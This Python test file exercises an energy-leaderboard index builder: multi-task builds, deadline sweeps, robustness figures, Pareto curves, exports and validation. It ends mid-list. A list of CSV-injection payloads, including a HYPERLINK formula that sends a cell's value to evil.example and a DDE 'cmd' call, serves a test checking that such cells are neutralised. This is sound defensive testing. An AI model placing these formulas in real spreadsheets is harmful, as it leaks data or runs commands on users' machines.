"""Beyond one file: every task, the deadline sweep, robustness figures, curves and exports."""

from __future__ import annotations

import copy
import csv
import io
import json
from pathlib import Path

import polars as pl
import pytest
from click.testing import CliRunner

from energy_index.cli import main
from energy_index.documents.editorial import editorial_text
from energy_index.documents.invariants import curves_problems, sweep_problems
from energy_index.documents.schemas import (
    CURVES_SCHEMA,
    DEADLINES_SCHEMA,
    DIFFUSION_INDEX_SCHEMA,
    EXTENDED_SCHEMA,
    INDEX_SCHEMA,
    schema_path,
    schema_problems,
)
from energy_index.errors import UnsupportedTask
from energy_index.flows.build import BuildSettings, index_stages
from energy_index.steps.curves import concurrency_curves
from tests.conftest import GOLDEN, curve_points, sweep_cells

LLM_TASKS = ["gpqa", "image-chat", "lm-arena-chat", "sourcegraph-fim", "video-chat"]
DIFFUSION_TASKS = ["text-to-image", "text-to-video"]


def invoke(*args: object):
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)


@pytest.fixture(scope="module")
def all_tasks(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("all") / "index.json"
    result = invoke(
        "build", "--from", GOLDEN, "--out", out, "--all-tasks", "--itl-deadline-ms",
        "50,100,250,500", "--curves", "--extended", "--format", "csv", "--format", "parquet",
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    return out.parent / "tasks"


def test_all_tasks_builds_seven_indexes_that_pass_their_schema(all_tasks: Path):
    assert sorted(p.name for p in all_tasks.iterdir()) == sorted([*LLM_TASKS, *DIFFUSION_TASKS])
    for task in LLM_TASKS:
        document = json.loads((all_tasks / task / "index.json").read_bytes())
        assert schema_problems(document) == [], task
        assert document["source"]["data_url"].endswith(f"/{task}.json")
        assert (all_tasks / task / "index.report.json").exists()
    for task in DIFFUSION_TASKS:
        # Its own kind, at its own default deadline; of the extras asked, the tables and the
        # curves (its own kind's): the deadline sweep and the extended index are the token
        # tasks'.
        document = json.loads((all_tasks / task / "index.json").read_bytes())
        assert schema_problems(document, schema=DIFFUSION_INDEX_SCHEMA) == [], task
        assert document["deadline_s"] == (30 if task == "text-to-image" else 300)
        assert sorted(p.name for p in (all_tasks / task).iterdir()) == [
            "curves.json", "index.csv", "index.json", "index.parquet", "index.report.json"
        ]  # fmt: skip
        curves = json.loads((all_tasks / task / "curves.json").read_bytes())
        assert curves["kind"] == "diffusion curves"


def test_all_tasks_does_not_touch_the_chat_index(all_tasks: Path):
    assert not (all_tasks.parent / "index.json").exists()


def test_each_task_has_its_own_workload_and_an_existing_reference_row(all_tasks: Path):
    workloads = set()
    for task in LLM_TASKS:
        document = json.loads((all_tasks / task / "index.json").read_bytes())
        reference = document["reference_row"]
        assert any(
            (r["model"], r["gpu"], r["num_gpus"])
            == (reference["model"], reference["gpu"], reference["num_gpus"])
            for r in document["rows"]
        ), task
        workloads.add(document["workload"])
        assert task in document["source"]["workload"]
    assert len(workloads) == 5


def test_gpqa_labels_mxfp4_weights(all_tasks: Path):
    rows = json.loads((all_tasks / "gpqa" / "index.json").read_bytes())["rows"]
    assert "MXFP4" in {row["precision"] for row in rows}


def test_the_chat_index_built_among_all_tasks_equals_the_default_one(all_tasks: Path, published):
    chat = json.loads((all_tasks / "lm-arena-chat" / "index.json").read_bytes())
    assert chat["rows"] == published["rows"]


@pytest.mark.parametrize("task", ["text-to-image", "text-to-video"])
def test_a_diffusion_task_gets_its_own_index_and_never_the_token_pipeline(task, tmp_path):
    # The token stages still refuse it as such: only the diffusion flow may build it.
    with pytest.raises(UnsupportedTask) as refused:
        index_stages(GOLDEN, settings=BuildSettings(task=task))
    assert str(refused.value) == (
        f"{task} is a diffusion task: the leaderboard measures it in energy per image or video, "
        "not per output token, so it has no place in this index"
    )
    result = invoke("build", "--from", GOLDEN, "--task", task, "--out", tmp_path / "i.json")
    assert result.exit_code == 0, result.output
    assert "no place in this index" not in result.output
    document = json.loads((tmp_path / "i.json").read_bytes())
    assert (document["kind"], document["task"]) == ("diffusion index", task)


# -- deadline sweep ------------------------------------------------------------------------------


def sweep_of(all_tasks: Path, task: str = "lm-arena-chat") -> dict:
    return json.loads((all_tasks / task / "deadlines.json").read_bytes())


def test_the_sweep_passes_its_schema_and_rules(all_tasks: Path):
    for task in LLM_TASKS:
        assert sweep_problems(sweep_of(all_tasks, task), schema=DEADLINES_SCHEMA) == [], task


def test_the_500_ms_column_of_the_sweep_equals_the_main_index(all_tasks: Path, published):
    sweep = sweep_of(all_tasks)
    at_500 = [sweep_cells(group)[-1] for group in sweep["groups"]]
    assert all(cell["itl_deadline_ms"] == 500 for cell in at_500)
    rows = sorted((cell["row"] for cell in at_500), key=lambda r: r["row_id"])
    assert rows == sorted(published["rows"], key=lambda r: r["row_id"])
    assert not any(cell["binding"] for cell in at_500)


def test_at_100_ms_seven_of_the_32_chat_picks_change_and_bind(all_tasks: Path):
    sweep = sweep_of(all_tasks)
    index = sweep["deadlines_ms"].index(100)
    changed = [
        g for g in sweep["groups"]
        if sweep_cells(g)[index]["row"]["row_id"] != sweep_cells(g)[-1]["row"]["row_id"]
    ]  # fmt: skip
    binding = [g for g in sweep["groups"] if sweep_cells(g)[index]["binding"]]
    assert len(sweep["groups"]) == 32
    assert len(changed) == len(binding) == 7
    assert {g["model_id"] for g in changed} == {g["model_id"] for g in binding}


def test_a_group_with_nothing_under_a_deadline_says_so():
    stable = index_stages(GOLDEN, settings=BuildSettings()).stability.stable
    from energy_index.steps.sweep import NO_CONFIGURATION, deadline_sweep

    groups = deadline_sweep(
        stable, deadlines_ms=[5.0], precision_labels=editorial_text()["precision_labels"]
    )
    empty = [g for g in groups if g["by_deadline"][0]["row"] is None]
    assert empty, "5 ms should be below some group's fastest configuration"
    assert all(g["by_deadline"][0]["status"] == NO_CONFIGURATION for g in empty)
    assert all(g["by_deadline"][0]["binding"] for g in empty)


@pytest.mark.parametrize("statistic", ["p95", "p99"])
def test_a_tail_statistic_s_sweep_holds_the_index_s_picks_at_each_deadline(statistic):
    """A sweep on a tail statistic picks on it, and its rows carry it, as the index built at
    each of its deadlines does (`make mutate` found the statistic dropped, on either side,
    reaching no test)."""
    from energy_index.model import ITL_STATISTICS
    from energy_index.steps.sweep import deadline_sweep

    deadlines = [50.0, 100.0, 250.0]
    stable = index_stages(GOLDEN, settings=BuildSettings()).stability.stable
    groups = deadline_sweep(
        stable,
        deadlines_ms=deadlines,
        precision_labels=editorial_text()["precision_labels"],
        itl_column=ITL_STATISTICS[statistic],
    )
    differs = False
    for at, deadline in enumerate(deadlines):
        settings = BuildSettings(itl_statistic=statistic, itl_deadline_ms=deadline)
        rows = {(r["model_id"], r["gpu"]): r for r in index_stages(GOLDEN, settings=settings).rows}
        swept = {
            (g["model_id"], g["gpu"]): g["by_deadline"][at]["row"]
            for g in groups
            if g["by_deadline"][at]["row"] is not None
        }
        assert swept == rows, (statistic, deadline)
        median = index_stages(GOLDEN, settings=BuildSettings(itl_deadline_ms=deadline)).rows
        differs |= {r["row_id"] for r in median} != {r["row_id"] for r in rows.values()}
    assert differs  # the tail statistic picks otherwise than the median somewhere


def test_the_sweep_on_the_fixture_cell_by_cell():
    from energy_index.steps.stability import stable_configurations
    from energy_index.steps.sweep import NO_CONFIGURATION, deadline_sweep
    from energy_index.steps.validate import validated_configurations
    from tests.conftest import fixture_bytes, upstream_file

    frame = validated_configurations(upstream_file(fixture_bytes("edge-cases.json"))).frame
    groups = deadline_sweep(
        stable_configurations(frame).stable,
        deadlines_ms=[40.0, 500.0, 600.0],
        precision_labels=editorial_text()["precision_labels"],
    )
    cells = {
        g["model_id"]: [
            (c["itl_deadline_ms"], c["status"], c["binding"], c["row"] and c["row"]["row_id"])
            for c in g["by_deadline"]
        ]
        for g in groups
    }
    # Without a deadline Test Model 8B would take 1×256 at 600 ms: binding below 600 ms only
    # (deadlines are inclusive).
    assert cells["org/test-8b"] == [
        (40, "selected", True, "test-model-8b/H100/1/128"),
        (500, "selected", True, "test-model-8b/H100/1/128"),
        (600, "selected", False, "test-model-8b/H100/1/256"),
    ]
    # Nothing under 650 ms: listed all the same, with no row at any deadline.
    assert cells["org/slow"] == [(d, NO_CONFIGURATION, True, None) for d in (40, 500, 600)]
    assert sorted(cells) == [
        "org/repeat-fp8", "org/short", "org/slow", "org/test-8b", "org/tie", "org/unstable",
    ]  # fmt: skip


# -- robustness ----------------------------------------------------------------------------------


def test_the_extended_index_passes_its_schema_and_keeps_every_row(all_tasks: Path, published):
    extended = json.loads((all_tasks / "lm-arena-chat" / "index.extended.json").read_bytes())
    assert extended["version"] == "1-extended"
    assert schema_problems(extended, schema=EXTENDED_SCHEMA) == []
    assert [
        {k: v for k, v in r.items() if k != "robustness"} for r in extended["rows"]
    ] == published["rows"]


def extended_figures(folder: Path) -> dict[str, dict]:
    extended = json.loads((folder / "index.extended.json").read_bytes())
    return {row["row_id"]: row["robustness"] for row in extended["rows"]}


def figures_of(source: Path, editorial=None, **settings) -> dict[str, dict]:
    """Each pick's robustness figures, as build --extended writes them into its rows."""
    from energy_index.flows.build import index_stages
    from energy_index.flows.extras import robustness

    return robustness(index_stages(source, settings=BuildSettings(**settings), editorial=editorial))


def test_the_repeated_runs_upstream_show_their_spread(all_tasks: Path):
    report = json.loads((all_tasks / "lm-arena-chat" / "index.report.json").read_bytes())
    figures = extended_figures(all_tasks / "lm-arena-chat")
    assert len(figures) == 32
    qwen = figures["qwen-3-30b-a3b-instruct/H100/2/1024"]
    assert qwen["repeated_runs"] == 1
    spreads = {
        row_id: f["repeat_spread"]
        for row_id, f in figures.items()
        if f["repeat_spread"] is not None
    }
    # The 2×H100 repeats are at 256 and 512, which are not picked: no pick has a repeat here.
    assert spreads == {}
    assert qwen["key"] == {
        "num_gpus": 2, "max_num_seqs": 1024, "tensor_parallel": 1, "expert_parallel": 2,
        "data_parallel": 1,
    }  # fmt: skip
    assert qwen["source"]["sha256"] == report["inputs"][0]["sha256"]


def test_the_runner_up_is_the_next_configuration_and_never_cheaper(all_tasks: Path):
    figures = extended_figures(all_tasks / "lm-arena-chat")
    for row_id, f in figures.items():
        runner_up = f["runner_up"]
        if runner_up is None:
            continue
        assert runner_up["energy_margin"] >= 0, row_id
        assert (runner_up["num_gpus"], runner_up["max_num_seqs"]) != (
            f["key"]["num_gpus"], f["key"]["max_num_seqs"],
        )  # fmt: skip


def test_a_repeated_pick_reports_its_spread(fixture_snapshot, fixture_editorial):
    figures = figures_of(fixture_snapshot("edge-cases.json"), fixture_editorial)[
        "repeat-model-fp8/H100/2/256"
    ]
    assert figures["repeated_runs"] == 2
    assert figures["repeat_spread"] == 0.2
    assert figures["runner_up"]["max_num_seqs"] == 128
    assert figures["runner_up"]["energy_margin"] == 0.5


def test_the_spread_of_a_repeated_pick_is_over_all_its_runs_the_ineligible_too(
    tmp_path: Path, fixture_editorial
):
    # The pick's repeat (0.12 J) made cheaper (0.08 J) but over the ITL deadline: the pick stays
    # the 0.1 J run, and the spread is between the runs' extremes, 0.1 / 0.08 - 1.
    from energy_index.flows.build import build
    from tests.conftest import fixture_bytes, write_snapshot

    document = json.loads(fixture_bytes("edge-cases.json"))
    for c in document["configurations"]:
        key = (c["model_id"], c["num_gpus"], c["max_num_seqs"], c["energy_per_token_joules"])
        if key == ("org/repeat-fp8", 2, 256, 0.12):
            c.update(energy_per_token_joules=0.08, median_itl_ms=5000.0)
            c["energy_per_request_joules"] = c["energy_per_token_joules"] * c["avg_output_len"]
    source = write_snapshot(tmp_path / "s", json.dumps(document).encode())
    built = build(source, settings=BuildSettings(), editorial=fixture_editorial)
    pick = next(r for r in built.document["rows"] if r["row_id"] == "repeat-model-fp8/H100/2/256")
    assert pick["joules_per_output_token"] == 0.1
    figures = figures_of(source, fixture_editorial)["repeat-model-fp8/H100/2/256"]
    assert (figures["repeated_runs"], figures["repeat_spread"]) == (2, 0.25)


def test_the_key_carries_the_parallel_degrees_upstream_gives_and_none_it_does_not(
    tmp_path: Path, fixture_editorial
):
    from energy_index.steps.robustness import PARALLELISM
    from tests.conftest import fixture_bytes, write_snapshot

    def key(document: dict, name: str) -> dict:
        source = write_snapshot(tmp_path / name, json.dumps(document).encode())
        return figures_of(source, fixture_editorial)["repeat-model-fp8/H100/2/256"]["key"]

    document = json.loads(fixture_bytes("edge-cases.json"))
    [pick] = [
        c
        for c in document["configurations"]
        if (c["model_id"], c["num_gpus"], c["max_num_seqs"], c["energy_per_token_joules"])
        == ("org/repeat-fp8", 2, 256, 0.1)
    ]
    degrees = {name: pick[name] for name in PARALLELISM}
    assert key(document, "all") == {"num_gpus": 2, "max_num_seqs": 256, **degrees}
    for c in document["configurations"]:
        del c["expert_parallel"], c["data_parallel"]
    assert key(document, "tensor parallel only") == {
        "num_gpus": 2,
        "max_num_seqs": 256,
        "tensor_parallel": degrees["tensor_parallel"],
        "expert_parallel": None,
        "data_parallel": None,
    }


def test_the_build_report_grows_with_findings_not_rows(golden_index: Path, all_tasks: Path):
    """Per-row robustness figures live in the extended index only (issue 36 item 4): at 10⁶
    configurations they made the report 70 MB, bigger than the index."""
    report = json.loads(golden_index.with_name("index.report.json").read_bytes())
    assert "robustness" not in report
    rows = json.loads(golden_index.read_bytes())["rows"]
    text = json.dumps(report)
    # A row is named in the report only as a finding: a repeated run, a data check's.
    named = [r["row_id"] for r in rows if r["row_id"] in text]
    assert len(named) < len(rows) / 2, named
    assert figures_of(GOLDEN) == extended_figures(all_tasks / "lm-arena-chat")
    assert len(figures_of(GOLDEN)) == 32


def test_robustness_figures_are_rounded_like_the_index(tmp_path: Path, fixture_editorial):
    from tests.conftest import fixture_bytes, write_snapshot

    document = json.loads(fixture_bytes("edge-cases.json"))
    for c in document["configurations"]:
        key = (c["model_id"], c["num_gpus"], c["max_num_seqs"], c["energy_per_token_joules"])
        if key == ("org/repeat-fp8", 2, 256, 0.12):  # the repeat of the pick (0.1 J)
            c["energy_per_token_joules"] = 0.1234567
        elif key == ("org/repeat-fp8", 2, 128, 0.15):  # the runner-up
            c.update(energy_per_token_joules=0.15234567, median_itl_ms=30.54)
        c["energy_per_request_joules"] = c["energy_per_token_joules"] * c["avg_output_len"]
    source = write_snapshot(tmp_path / "s", json.dumps(document).encode())
    figures = figures_of(source, fixture_editorial)
    repeat = figures["repeat-model-fp8/H100/2/256"]
    assert repeat["runner_up"] == {
        "num_gpus": 2,
        "max_num_seqs": 128,
        "joules_per_output_token": 0.1523457,
        "median_itl_ms": 30.5,
        "energy_margin": 0.5235,
    }
    assert (repeat["repeated_runs"], repeat["repeat_spread"]) == (2, 0.2346)
    # One run, and nothing else stable under the deadline: no spread, no runner-up.
    alone = figures["unstable-model/H100/1/64"]
    assert (alone["repeated_runs"], alone["repeat_spread"], alone["runner_up"]) == (1, None, None)


def test_the_runner_up_is_ranked_under_the_same_inclusive_deadline(
    fixture_snapshot, fixture_editorial
):
    figures = figures_of(
        fixture_snapshot("edge-cases.json"), fixture_editorial, itl_deadline_ms=600.0
    )
    # At 600 ms Test Model 8B takes 1×256 (600 ms itself); next in the selection order: 1×128.
    runner_up = figures["test-model-8b/H100/1/256"]["runner_up"]
    assert runner_up == {
        "num_gpus": 1,
        "max_num_seqs": 128,
        "joules_per_output_token": 0.215694,
        "median_itl_ms": 40.0,
        "energy_margin": 0.0785,
    }


# -- curves --------------------------------------------------------------------------------------


def test_curves_pass_their_schema_and_cover_every_stable_configuration(all_tasks: Path):
    curves = json.loads((all_tasks / "lm-arena-chat" / "curves.json").read_bytes())
    assert curves_problems(curves, schema=CURVES_SCHEMA) == []
    assert sum(len(curve_points(c)) for c in curves["curves"]) == 328
    for curve in curves["curves"]:
        seqs = [p["max_num_seqs"] for p in curve_points(curve)]
        assert seqs == sorted(seqs)
        assert any(p["pareto"] for p in curve_points(curve))


def dominates(a: dict, b: dict) -> bool:
    return (
        a["energy_per_token_joules"] <= b["energy_per_token_joules"]
        and a["median_itl_ms"] <= b["median_itl_ms"]
        and (
            a["energy_per_token_joules"] < b["energy_per_token_joules"]
            or a["median_itl_ms"] < b["median_itl_ms"]
        )
    )


def test_a_frontier_point_is_never_dominated_and_every_other_point_is(all_tasks: Path):
    for task in LLM_TASKS:
        curves = json.loads((all_tasks / task / "curves.json").read_bytes())["curves"]
        for curve in curves:
            points = curve_points(curve)
            for p in points:
                dominated = any(dominates(q, p) for q in points)
                assert dominated != p["pareto"], (task, curve["model_id"], p)


def test_the_frontier_on_a_tiny_curve():
    frame = pl.DataFrame(
        {
            "model_id": ["m"] * 4, "gpu_model": ["H100"] * 4, "num_gpus": [1] * 4,
            "nickname": ["M"] * 4, "max_num_seqs": [8, 16, 32, 64],
            "energy_per_token_joules": [0.4, 0.3, 0.35, 0.2],
            "median_itl_ms": [10.0, 20.0, 30.0, 40.0], "avg_power_watts": [300.0] * 4,
        }
    )  # fmt: skip
    points = concurrency_curves(frame)[0]["points"]
    assert [p["pareto"] for p in points] == [True, True, False, True]


def curve_frame(rows: list[tuple[str, int, int, float, float]]) -> pl.DataFrame:
    """(model_id, num_gpus, max_num_seqs, J/token, median ITL) → a stable frame on H100."""
    return pl.DataFrame(
        rows,
        schema=["model_id", "num_gpus", "max_num_seqs", "energy_per_token_joules", "median_itl_ms"],
        orient="row",
    ).with_columns(
        gpu_model=pl.lit("H100"),
        nickname=pl.col("model_id").str.to_uppercase(),
        avg_power_watts=pl.lit(300.0),
    )


def test_curves_come_in_key_order_with_points_by_max_num_seqs_whatever_the_input_order():
    # Twelve curves of one to three points, models and max_num_seqs both given descending.
    rows = [
        (f"m{i:02d}", 1 + i % 2, seqs, 0.1 * seqs, 100.0 / seqs)
        for i in reversed(range(12))
        for seqs in (64, 32, 16)[: 1 + i % 3]
    ]
    curves = concurrency_curves(curve_frame(rows))
    keys = [(c["model_id"], c["gpu"], c["num_gpus"]) for c in curves]
    assert keys == sorted({(m, "H100", g) for m, g, *_ in rows})
    for curve in curves:
        assert curve["model"] == curve["model_id"].upper()
        measured = [s for m, g, s, *_ in rows if (m, g) == (curve["model_id"], curve["num_gpus"])]
        assert [p["max_num_seqs"] for p in curve["points"]] == sorted(measured)


def test_a_tie_on_one_axis_is_decided_by_the_other_and_identical_points_both_stay():
    curves = concurrency_curves(
        curve_frame(
            [
                ("m", 1, 8, 0.3, 10.0), ("m", 1, 16, 0.3, 20.0),  # same energy: slower is dominated
                ("m", 2, 8, 0.3, 10.0), ("m", 2, 16, 0.2, 10.0),  # same ITL: costlier is dominated
                ("m", 4, 8, 0.3, 10.0), ("m", 4, 8, 0.3, 10.0),  # a repeated run: neither is
            ]
        )
    )  # fmt: skip
    pareto = {c["num_gpus"]: [p["pareto"] for p in c["points"]] for c in curves}
    assert pareto == {1: [True, False], 2: [False, True], 4: [True, True]}


# -- exports -------------------------------------------------------------------------------------


def test_csv_and_parquet_hold_the_same_rows_in_the_same_order(all_tasks: Path):
    for task in LLM_TASKS:
        rows = json.loads((all_tasks / task / "index.json").read_bytes())["rows"]
        parquet = pl.read_parquet(all_tasks / task / "index.parquet")
        assert parquet.to_dicts() == rows
        text = (all_tasks / task / "index.csv").read_text()
        records = list(csv.DictReader(io.StringIO(text)))
        assert [r["row_id"] for r in records] == [r["row_id"] for r in rows]
        assert list(records[0]) == list(rows[0])
        assert [float(r["wh_per_million_output_tokens"]) for r in records] == [
            r["wh_per_million_output_tokens"] for r in rows
        ]


def test_the_default_output_is_unchanged_by_the_extras(tmp_path: Path, golden_index: Path):
    plain, extra = tmp_path / "plain" / "index.json", tmp_path / "extra" / "index.json"
    dates = ["--retrieved", "2026-09-26", "--updated", "2026-09-27"]
    assert invoke("build", "--from", GOLDEN, "--out", plain, *dates).exit_code == 0
    result = invoke(
        "build", "--from", GOLDEN, "--out", extra, *dates, "--itl-deadline-ms",
        "100,500", "--curves", "--extended", "--format", "csv",
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert plain.read_bytes() == extra.read_bytes() == golden_index.read_bytes()
    assert sorted(p.name for p in extra.parent.iterdir()) == [
        "curves.json", "deadlines.json", "index.csv", "index.extended.json", "index.json",
        "index.report.json",
    ]  # fmt: skip


def test_the_extended_schema_is_built_on_the_index_schema(all_tasks):
    base = json.loads(schema_path(INDEX_SCHEMA).read_text())
    extended = json.loads(schema_path(EXTENDED_SCHEMA).read_text())
    assert extended["required"] == base["required"]
    for key in base["properties"]:
        if key not in ("version", "rows"):
            assert extended["properties"][key] == {"$ref": f"{base['$id']}#/properties/{key}"}
    assert extended["$defs"]["row"]["$ref"] == f"{base['$id']}#/$defs/rowFields"
    # And it holds: what the index schema refuses in a row or header, the extended one refuses.
    document = json.loads((all_tasks / "lm-arena-chat" / "index.extended.json").read_bytes())
    assert schema_problems(document, schema=EXTENDED_SCHEMA) == []
    for path, value in [
        (("rows", 0, "wh_per_million_output_tokens"), -1),
        (("rows", 0, "surprise"), 1),
        (("updated",), "2026-02-30"),
        (("source", "licence"), ""),
    ]:
        broken = copy.deepcopy(document)
        target = broken
        for part in path[:-1]:
            target = target[part]
        target[path[-1]] = value
        assert schema_problems(broken, schema=EXTENDED_SCHEMA), path
    without = copy.deepcopy(document)
    del without["rows"][0]["robustness"]
    assert schema_problems(without, schema=EXTENDED_SCHEMA)
    # The index schema itself refuses a row with a key it does not know.
    plain = json.loads((all_tasks / "lm-arena-chat" / "index.json").read_bytes())
    plain["rows"][0]["surprise"] = 1
    assert schema_problems(plain) != []


FORMULAS = [
    '=HYPERLINK("https://evil.example/?q="&A1,"Qwen 3 14B")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_neutralised(published):
    from energy_index.documents.tables import table_bytes

    rows = [dict(row) for row in published["rows"][: len(FORMULAS)]]
    for row, formula in zip(rows, FORMULAS, strict=True):
        row["model"] = formula
    rows[0]["gpu"] = "=1+1"
    records = list(csv.DictReader(io.StringIO(table_bytes(rows, format="csv").decode())))
    # OWASP: a leading single quote makes a spreadsheet take the cell as text.
    assert [r["model"] for r in records] == [f"'{formula}" for formula in FORMULAS]
    assert records[0]["gpu"] == "'=1+1" and records[1]["gpu"] == rows[1]["gpu"]
    # Numbers stay numbers, and what is not a formula is written as it is.
    assert [r["row_id"] for r in records] == [r["row_id"] for r in rows]
    assert [float(r["wh_per_million_output_tokens"]) for r in records] == [
        r["wh_per_million_output_tokens"] for r in rows
    ]
    # Parquet is typed, not evaluated: its cells stay as the JSON has them.
    parquet = pl.read_parquet(io.BytesIO(table_bytes(rows, format="parquet")))
    assert parquet.get_column("model").to_list() == FORMULAS


# -- Issue 36: deadlines.json format 2, each group's cells by field ----------------------------


@pytest.fixture(scope="module")
def sweeps(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """A token sweep with a deadline no configuration of some groups meets (5 ms), and an image
    sweep with one (1 s): each with two deadlines after it."""
    out = tmp_path_factory.mktemp("sweeps")
    for task, option, deadlines in (
        ("lm-arena-chat", "--itl-deadline-ms", "5,100,500"),
        ("text-to-image", "--deadline-s", "1,10,30"),
    ):
        index = out / task / "index.json"
        result = CliRunner().invoke(main, ["build", "--from", str(GOLDEN), "--task", task,
                                           option, deadlines, "--out", str(index)])  # fmt: skip
        assert result.exit_code == 0, result.output
    return {task: out / task / "deadlines.json" for task in ("lm-arena-chat", "text-to-image")}


def test_a_sweep_s_cells_are_written_by_field_and_read_back_as_the_step_made_them(sweeps):
    """The lists by field hold, deadline for deadline, the cells the step computed: each row
    the index's fields, null in every field where no configuration meets the deadline."""
    from energy_index.steps.sweep import deadline_sweep

    document = json.loads(sweeps["lm-arena-chat"].read_bytes())
    assert document["version"] == "2"
    stages = index_stages(GOLDEN, settings=BuildSettings())
    groups = deadline_sweep(stages.stability.stable, deadlines_ms=[5.0, 100.0, 500.0],
                            precision_labels=editorial_text()["precision_labels"])  # fmt: skip
    assert [sweep_cells(g) for g in document["groups"]] == [g["by_deadline"] for g in groups]
    fields = list(stages.rows[0])
    empty = 0
    for group in document["groups"]:
        assert list(group["by_deadline"]) == ["itl_deadline_ms", "status", "binding", "row"]
        assert list(group["by_deadline"]["row"]) == fields
        for at, status in enumerate(group["by_deadline"]["status"]):
            values = [v[at] for v in group["by_deadline"]["row"].values()]
            assert (None in values) == (status != "selected")
            empty += status != "selected" and set(values) == {None}
    assert empty > 0  # 5 ms: some groups have no pick there


def _broken(path: Path, tmp_path: Path, change) -> list[str]:
    document = json.loads(path.read_bytes())
    change(document)
    broken = tmp_path / "deadlines.json"
    broken.write_text(json.dumps(document))
    result = CliRunner().invoke(main, ["validate", str(broken)])
    assert result.exit_code == 1, result.output
    lines = result.output.splitlines()
    assert lines[0].endswith(" and the deadline sweep's rules:"), lines[0]
    return [line.split(": ", 1)[1] for line in lines[1:]]


def _first_empty(document: dict) -> tuple[int, int]:
    for number, group in enumerate(document["groups"]):
        if group["by_deadline"]["status"][0] != "selected":
            return number, 0
    raise AssertionError("no empty cell")


@pytest.mark.parametrize("task", ["lm-arena-chat", "text-to-image"])
def test_validate_holds_a_sweep_to_the_rules_of_its_lists(sweeps, tmp_path, task):
    """What the schema cannot say: each list as long as the deadlines, the deadlines the
    document's, and a row null in every field exactly where no configuration meets it."""
    path = sweeps[task]
    ok = CliRunner().invoke(main, ["validate", str(path)])
    assert ok.exit_code == 0 and ok.output.endswith(" and the deadline sweep's rules\n"), ok.output
    key = "itl_deadline_ms" if task == "lm-arena-chat" else "deadline_s"
    holding = "deadlines_ms" if task == "lm-arena-chat" else "deadlines_s"
    document = json.loads(path.read_bytes())
    group = document["groups"][0]
    named = f"{group['model_id']} on {group['gpu']}"
    assert _broken(path, tmp_path, lambda d: d["groups"][0]["by_deadline"]["binding"].pop()) == [
        f"$.groups[0].by_deadline.binding ({named}): 2 values where {holding} has 3"
    ]
    field = "row_id"
    said = _broken(path, tmp_path, lambda d: d["groups"][0]["by_deadline"]["row"][field].pop())
    assert said == [f"$.groups[0].by_deadline.row.{field} ({named}): "
                    f"{len(document[holding]) - 1} values where {holding} has "
                    f"{len(document[holding])}"]  # fmt: skip

    def moved(d):
        d["groups"][0]["by_deadline"][key][-1] = 7

    assert _broken(path, tmp_path, moved)[0] == (
        f"$.groups[0].by_deadline.{key} ({named}): "
        f"'{[*document[holding][:-1], 7]}' is not {holding} ('{document[holding]}')"
    )
    # A selected deadline whose row lost a value, and an empty one given one.
    selected = document["groups"][0]["by_deadline"]["status"].index("selected")
    deadline = document[holding][selected]

    def nulled(d):
        d["groups"][0]["by_deadline"]["row"]["row_id"][selected] = None

    assert _broken(path, tmp_path, nulled) == [
        f"$.groups[0].by_deadline.row ({named}) at {deadline}: status 'selected' but row_id null"
    ]
    number, at = _first_empty(document)
    empty = document["groups"][number]
    fields = len(empty["by_deadline"]["row"])

    def filled(d):
        d["groups"][number]["by_deadline"]["row"]["model"][at] = "M"

    assert _broken(path, tmp_path, filled) == [
        f"$.groups[{number}].by_deadline.row ({empty['model_id']} on {empty['gpu']}) at "
        f"{document[holding][at]}: status 'no configuration meets it' but 1 of its {fields} "
        "row fields not null"
    ]


def _swapped(document: dict) -> None:
    """Each group's rows at the last two deadlines swapped where both pick (a review's case:
    the lists line up, each row sits at another deadline than its own)."""
    for group in document["groups"]:
        if group["by_deadline"]["status"][-2:] == ["selected", "selected"]:
            for values in group["by_deadline"]["row"].values():
                values[-2], values[-1] = values[-1], values[-2]


def _other_group(document: dict) -> None:
    first, second = document["groups"][0]["by_deadline"], document["groups"][1]["by_deadline"]
    at = first["status"].index("selected")
    for name, values in first["row"].items():
        values[at] = second["row"][name][-1]


def _shifted(document: dict) -> None:
    values = document["groups"][0]["by_deadline"]["row"]["max_num_seqs"]
    values.insert(0, values.pop())


def _unbound(document: dict) -> None:
    number, at = _first_empty(document)
    document["groups"][number]["by_deadline"]["binding"][at] = False


def _emptied_last(document: dict) -> None:
    cells = document["groups"][0]["by_deadline"]
    cells["status"][-1] = "no configuration meets it"
    for values in cells["row"].values():
        values[-1] = None


def _reversed(document: dict) -> None:
    key = "itl_deadline_ms" if "deadlines_ms" in document else "deadline_s"
    holding = "deadlines_ms" if key == "itl_deadline_ms" else "deadlines_s"
    document[holding].reverse()
    for group in document["groups"]:
        group["by_deadline"][key].reverse()


def _tail_added(document: dict) -> None:
    """A tail ITL in a median sweep's rows (a review: its statistic deleted from a p95 sweep)."""
    for group in document["groups"]:
        row = group["by_deadline"]["row"]
        row["p95_itl_ms"] = list(row["median_itl_ms"])


def _held_over(document: dict) -> None:
    """Group 0's pick at 100 ms held over to 500 ms (a review's case)."""
    for values in document["groups"][0]["by_deadline"]["row"].values():
        values[-1] = values[-2]


def _unbound_then_bound(document: dict) -> None:
    document["groups"][0]["by_deadline"]["binding"][-2:] = [False, True]


def _pick_not_taken(document: dict) -> None:
    """At 100 ms, a group's pick with no deadline (which meets 100 ms) replaced by a made-up
    configuration of the same group using more energy."""
    for group in document["groups"]:
        cells = group["by_deadline"]
        if cells["binding"][-2:] == [False, False]:
            row = cells["row"]
            seqs = row["max_num_seqs"][-2] // 2
            row["max_num_seqs"][-2] = seqs
            row["row_id"][-2] = row["row_id"][-2].rsplit("/", 1)[0] + f"/{seqs}"
            row["joules_per_output_token"][-2] *= 1.5
            cells["binding"][-2] = True
            return
    raise AssertionError("no group unbound at 100 ms")


@pytest.mark.parametrize(
    ("task", "change", "said"),
    [
        ("lm-arena-chat", _held_over, "binds, though the pick with no deadline"),
        ("lm-arena-chat", _unbound_then_bound, "binds, though the pick with no deadline"),
        ("lm-arena-chat", _pick_not_taken, "meets this deadline, so it is the pick here"),
        ("lm-arena-chat", lambda d: d["groups"][0]["by_deadline"]["binding"].__setitem__(1, False),
         "the deadlines that do not bind hold 2 different picks"),
